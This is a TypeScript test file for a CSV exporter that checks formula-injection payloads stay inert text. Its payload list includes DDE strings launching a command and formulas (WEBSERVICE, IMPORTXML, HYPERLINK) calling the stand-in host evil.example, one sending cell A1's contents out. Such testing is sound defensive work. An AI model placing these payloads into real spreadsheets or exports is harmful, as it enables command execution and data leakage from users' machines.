import { expect, test } from 'vitest';
import { textCell } from '#domain/table-cell.ts';
import { makeCsv } from './csv.ts';
import { makeChain, makeSigner, makeStatement } from './test-books.ts';

/** Known payloads that make a spreadsheet run something. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","click")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '|calc',
  '%0A=1',
  'plain;=1+1',
  'plain;\t@SUM(A1)',
  'first\n=1+1',
  '"=1+1',
  '","=1+1',
  '";=1+1;"',
  "'=1+1",
];

/** A CSV reader like a spreadsheet's, for a given separator. */
function readCells(csv: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < csv.length; at += 1) {
    const one = csv[at] ?? '';
    if (one === '"' && isQuoted && csv[at + 1] === '"') at += 1;
    else if (one === '"') isQuoted = !isQuoted;
    const isEnd = !isQuoted && (one === separator || one === '\n' || one === '\r');
    if (isEnd) cells.push(cell);
    cell = isEnd ? '' : cell + (one === '"' && cell === '' ? '' : one);
  }
  return [...cells, cell];
}

const isFormula = (cell: string) => /^[\s\p{Cc}\p{Cf}]*[=+\-@|%＝＋－＠]/u.test(cell);

test.each(payloads)('%j stays text, whatever separates cells', (payload) => {
  const cell = textCell(payload);
  expect(cell.slice(1, -1).replaceAll('""', '"').replaceAll("'", '')).toBe(
    payload.replaceAll("'", ''),
  );
  for (const separator of [',', ';', '\t']) {
    for (const read of readCells(`"a",${cell},"b"`, separator)) {
      expect(isFormula(read), `${JSON.stringify(read)} after ${separator}`).toBe(false);
    }
  }
});

test('ordinary text is left alone, and quotes are doubled', () => {
  expect(textCell('Thank you, see you')).toBe('"Thank you, see you"');
  expect(textCell('he said "yes"')).toBe('"he said ""yes"""');
  expect(textCell('')).toBe('""');
  expect(textCell('A-1 = B')).toBe('"A-1 = B"');
});

test('amounts are numbers with a real minus, and a live statement is not labelled', () => {
  const owner = 'a0000000-0000-4000-8000-000000000001';
  const chain = makeChain(owner, 2, new Date('2026-03-01T00:00:00Z'), ['=1+1']);
  const [names, first, second, end] = makeCsv(makeStatement(chain, makeSigner())).split('\r\n');
  expect(names).toMatch(
    /^\uFEFF"Your time \(Asia\/Bangkok\)","UTC","Type","Description","Amount \(EUR\)"/,
  );
  expect(first).toContain(',900.00,,900.00,"\'=1+1",');
  expect(second).toContain(',-120.00,,780.00,');
  expect(end).toBe('');
});
